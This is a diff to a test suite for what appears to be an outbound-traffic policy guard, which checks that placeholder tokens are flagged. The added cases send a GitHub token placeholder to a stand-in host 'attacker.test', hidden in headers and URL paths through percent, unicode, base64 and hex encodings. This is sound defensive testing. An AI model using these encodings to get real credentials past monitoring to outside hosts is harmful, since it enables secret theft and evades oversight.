@@ -199,6 +199,11 @@ def test_threat_08_a_tunnel_to_an_ip_that_says_it_is_a_granted_host() -> None:
         (b"Authorization", b"basic  " + base64.b64encode(f"{GITHUB}:".encode()).rstrip(b"=")),
         (b"X-Anything", GITHUB.encode()),
         (b"Cookie", b"a=b; token=" + GITHUB.encode() + b"; c=d"),
+        (b"X-Forwarded-Auth", b'{"t":"%67' + GITHUB[1:].encode() + b'"}'),
+        (b"X-Json", "".join(f"\\u{byte:04x}" for byte in GITHUB.encode()).encode()),
+        (b"X-Config", base64.b64encode(f'{{"token":"{GITHUB}"}}'.encode())),
+        (b"X-Config", base64.urlsafe_b64encode(f"\xff\xfe?{GITHUB}".encode("latin-1")).rstrip(b"=")),
+        (b"Cookie", b"s=" + GITHUB.encode().hex().encode()),
     ],
 )
 def test_threat_11_a_placeholder_sent_elsewhere_is_an_alarm(header: tuple[bytes, bytes]) -> None:
@@ -207,6 +212,30 @@ def test_threat_11_a_placeholder_sent_elsewhere_is_an_alarm(header: tuple[bytes,
         assert_denied(decision, "placeholder")
         assert decision.alarm
         assert GITHUB not in decision.message + decision.remedy
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        f"/?access_token={GITHUB}",
+        f"/x/{GITHUB}/y",
+        f"/?q=1&a=Bearer%20{GITHUB}#f",
+        f"/?t=%67{GITHUB[1:]}",
+        "/?t=" + base64.urlsafe_b64encode(f"x-access-token:{GITHUB}".encode()).decode(),
+        f"/?t={GITHUB.encode().hex()}",
+    ],
+)
+def test_threat_11_a_placeholder_in_a_url_is_an_alarm_too(path: str) -> None:
+    for request in (head("attacker.test", path=path), plain("attacker.test", path=path)):
+        decision = decide(request, policy())
+        assert_denied(decision, "placeholder")
+        assert decision.alarm
+    assert decide(head("api.github.com", path=path), policy()).allowed
+
+
+def test_a_url_that_only_talks_of_a_placeholder_is_none() -> None:
+    for path in (f"/search?q=what+is+{GENERIC}", f"/?q=what%20is%20{GENERIC}%20for", f"/{GENERIC}-docs"):
+        assert decide(head("search.test", path=path), policy(anthropic)).allowed
 
 
 def test_threat_11_the_alarm_comes_before_the_strict_denial() -> None:
